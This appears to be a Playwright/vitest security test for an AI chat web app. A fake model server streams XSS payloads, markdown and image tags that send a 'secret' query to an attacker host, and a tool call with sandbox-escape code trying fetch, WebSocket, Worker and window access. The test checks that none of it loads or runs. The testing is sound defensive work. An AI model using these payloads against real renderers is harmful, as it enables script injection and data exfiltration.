import type { RequestListener, ServerResponse } from 'node:http';
import type { Page, Request } from 'playwright';
import { afterEach, describe, expect, it } from 'vitest';
import { hostileAddresses, hostileFormulas, hostileHTML, hostilePictures } from '../demo/hostile.ts';
import { startFrugalBrowser, type Tab } from './support/browser.ts';
import { closeCleanly } from './support/clean.ts';
import { eventually } from './support/eventually.ts';
import { listen } from './support/server.ts';
import { during, setSite } from './support/stage.ts';
import { ask, button, composer, conversation, openSettings, sections, textOf, connectTo } from './support/studio.ts';

const site = setSite(new URL('../../demo', import.meta.url));
const browser = during(startFrugalBrowser, (its) => its.close());
afterEach(() => closeCleanly(browser()));

/** Requests that reached the server of the attacker. Its address is one that the policy of the page would allow. */
const reached: string[] = [];
const evil = during(
  () =>
    listen((request, response) => {
      reached.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*');
      response.end('globalThis.pwned = true');
    }),
  ({ stop }) => stop(),
);
const model = during(
  () => listen(answer),
  ({ stop }) => stop(),
);

/** Every payload, aimed at an address of the attacker. */
function payloads(host: string): readonly string[] {
  const url = `http://${host}/p.png?q=secret`;
  const scripts = hostileHTML.map((html) =>
    html.replaceAll('alert(1)', 'globalThis.pwned=1').replaceAll('evil.example', host),
  );
  const addresses = hostileAddresses.map((address) =>
    address.replaceAll('alert(1)', 'globalThis.pwned=1').replaceAll('evil.example', host),
  );
  const formulas = hostileFormulas.map((tex) =>
    tex.replaceAll('alert(1)', 'globalThis.pwned=1').replaceAll('https://evil.example', `http://${host}`),
  );
  const simple = [
    ...hostilePictures.flatMap(([, write]) => [write(url), write('https://evil.example/p.png?q=secret')]),
    ...scripts,
    ...formulas.flatMap((tex) => [`$$\n${tex}\n$$`, `so $x${tex}$ and \\(${tex}\\)`]),
    ...addresses.map((address) => `[press](<${address}>) ![picture](<${address}>) <${address}>`),
    // Entities, and what a browser would load without a click.
    `&lt;img src="${url}"&gt; &#60;script src="${url}"&#62;&#60;/script&#62; ![a](&#104;ttp://${host}/entity)`,
    `<link rel="preconnect" href="${url}"><link rel=stylesheet href="${url}"><meta http-equiv="refresh" content="0;url=${url}">`,
    `<base href="http://${host}/"><object data="${url}"></object><video src="${url}" autoplay></video><script src="${url}"></script>`,
    `~~~html\n<img src="${url}" onerror="globalThis.pwned=1">\n~~~`,
    `[a](javascript&#58;globalThis.pwned=1) [a]: ${url} "title"`,
  ];
  const nested = simple.flatMap((text) => [
    text.replaceAll(/^/gmu, '> '),
    text.replaceAll(/^/gmu, '- - '),
    `**_~~[x ${text.replaceAll('\n', ' ')} x](${url})~~_**`,
  ]);
  return [...simple, ...nested];
}

/** Code that tries every way out of the sandbox. */
const escape = (host: string): string => `
  const url = 'http://${host}/sandbox';
  const tries = [
    () => fetch(url, { mode: 'no-cors' }), () => navigator.sendBeacon(url), () => new WebSocket('ws://${host}/ws'),
    () => new EventSource(url), () => importScripts(url), () => import(url), () => new Worker(url),
    () => { const request = new XMLHttpRequest(); request.open('GET', url); request.send(); },
    () => { location.href = url; }, () => { new Image().src = url; }, () => open(url),
    () => postMessage('globalThis.pwned = 1', '*'), () => { parent.pwned = 1; }, () => { top.location = url; },
  ];
  for (const attempt of tries) { try { await attempt(); } catch {} }
  return ${JSON.stringify(`<img src="http://${host}/output">`)};`;

/** The first answer has reasoning, text and calls; the second ends with the payloads. */
const answer: RequestListener = (request, response) => {
  response.setHeader('access-control-allow-origin', '*');
  response.setHeader('access-control-allow-headers', '*');
  if (request.method !== 'POST') return void response.end();
  let body = '';
  request.setEncoding('utf8').on('data', (piece: string) => (body += piece));
  request.on('end', () => stream(response, body.includes('"role":"tool"')));
};

function stream(response: ServerResponse, isLast: boolean): void {
  const { host } = evil();
  const text = payloads(host).join('\n\n');
  response.setHeader('content-type', 'text/event-stream');
  const send = (delta: object, finish: string | null = null): unknown =>
    response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`);
  const call = (index: number, name: string, input: object): object => ({
    index,
    id: `call-${index}`,
    type: 'function',
    function: { name, arguments: JSON.stringify(input) },
  });
  if (!isLast) send({ reasoning_content: text });
  for (let at = 0; at < text.length; at += 500) send({ content: text.slice(at, at + 500) });
  if (isLast) send({ content: '\n\nThe end.' }, 'stop');
  else {
    send({
      tool_calls: [
        call(0, 'run_javascript', { code: escape(host) }),
        call(1, 'add_note', { text: text.slice(0, 400) }),
        call(2, `![a](http://${host}/name)`, { text }),
      ],
    });
    send({}, 'tool_calls');
  }
  response.end('data: [DONE]\n\n');
}

interface Watch {
  /** Origins of all requests of the page, its frames and workers, without those that a policy refused before they left. */
  readonly origins: Set<string>;
  /** What a person would notice: dialogs, windows, other documents, sockets. */
  readonly events: string[];
}

function watch({ page }: Tab): Watch {
  const origins = new Set<string>();
  const events: string[] = [];
  const left = (request: Request): unknown => origins.add(new URL(request.url()).origin);
  page.on('requestfinished', left);
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') left(request);
  });
  page.on('websocket', (socket) => events.push(`socket ${socket.url()}`));
  page.on('popup', (popup) => events.push(`window ${popup.url()}`));
  page.on('dialog', (dialog) => {
    events.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  return { origins, events };
}

async function connect(page: Page): Promise<void> {
  await composer(page).waitFor();
  await openSettings(page, sections.model);
  await connectTo(page, { baseURL: `http://${model().host}/v1` });
}

/** Shows everything that is folded. */
const unfold = (page: Page): Promise<void> =>
  page.evaluate(async () => {
    // What is folded within something folded is there only then.
    for (let depth = 0; depth < 4; depth += 1) {
      for (const details of document.querySelectorAll('details'))
        if (!details.open) details.querySelector('summary')?.click();
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    }
  });

describe('whatever the model writes', () => {
  it('nothing is requested, run or left, and the page stands after a reload', { timeout: 180_000 }, async () => {
    const url = site().freshURL();
    const tab = await browser().open('about:blank');
    const { page } = tab;
    // The sandbox reports what it refuses.
    tab.expectProblem(new RegExp(`${evil().host}|sandbox|Content Security Policy`));
    await page.goto(url);
    const { origins, events } = watch(tab);
    const isIntact = async (): Promise<void> => {
      await unfold(page);
      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
      expect(reached).toEqual([]);
      expect(events).toEqual([]);
      expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false);
      expect(await page.locator('.broken').count()).toBe(0);
      expect(new URL(page.url()).origin).toBe(new URL(url).origin);
    };

    await connect(page);
    await ask(page, `<img src="http://${evil().host}/title" onerror="globalThis.pwned=1">`);
    await conversation(page)
      .getByRole('group', { name: /Add a note/ })
      .waitFor();
    await isIntact();
    await button(page, 'Reject').click();
    await button(page, 'Reject call').click();
    await eventually(() => textOf(page)).toContain('The end.');
    await page.locator('.bk-round[data-state=stop]').waitFor({ state: 'detached' });
    await isIntact();

    await page.reload();
    await eventually(() => textOf(page)).toContain('The end.');
    await isIntact();
    await page.evaluate(() => (location.hash = location.hash.replace('#/s/', '#/review/')));
    await page.getByRole('slider').first().waitFor();
    await isIntact();
    await page.goBack();
    await ask(page, 'Thanks!');
    await eventually(async () => (await textOf(page)).match(/The end\./g)?.length).toBe(2);

    const allowed = new Set([new URL(url).origin, `http://${model().host}`, 'null']);
    expect([...origins].filter((origin) => !allowed.has(origin))).toEqual([]);
  });
});
